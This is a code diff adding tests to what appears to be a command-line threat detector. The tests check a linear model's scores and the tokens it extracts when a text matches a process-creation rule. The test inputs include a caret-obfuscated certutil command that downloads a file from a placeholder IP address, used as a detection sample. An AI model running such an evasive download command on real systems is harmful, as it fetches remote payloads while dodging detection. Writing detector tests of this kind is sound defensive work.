@@ -101,6 +101,23 @@ test("a model read from its files scores the same, as does the ONNX runtime", as
   }
 })
 
+test("a score is what the linear model says of the text's vector, against the threshold", () => {
+  const kind = openKind(model.kinds[0]!)
+  for (const text of ["cert^util -urlcache -f http://192.0.2.1/a", "copy.exe --list a a a", ""]) {
+    const decision = kind.decide(kind.vectorOf(text))
+    expect(kind.score(text).score).toBeCloseTo(decision - model.kinds[0]!.calibration.threshold, 5)
+  }
+})
+
+test("the tokens of a text are what of the nearest rule stands in it, as shells read it", () => {
+  const { tokens } = score("cert^util -url^cache -f ht^tp://192.0.2.1/a", "process_creation")
+  expect([...tokens!].sort()).toEqual(["certutil", "http", "urlcache"])
+})
+
+test("a text without a near rule has no tokens", () => {
+  expect(score("copy.exe --list a", "process_creation").tokens).toEqual([])
+})
+
 test("files that do not belong together are refused", async () => {
   const folder = mkdtempSync(join(tmpdir(), "vedette-evasion-"))
   try {
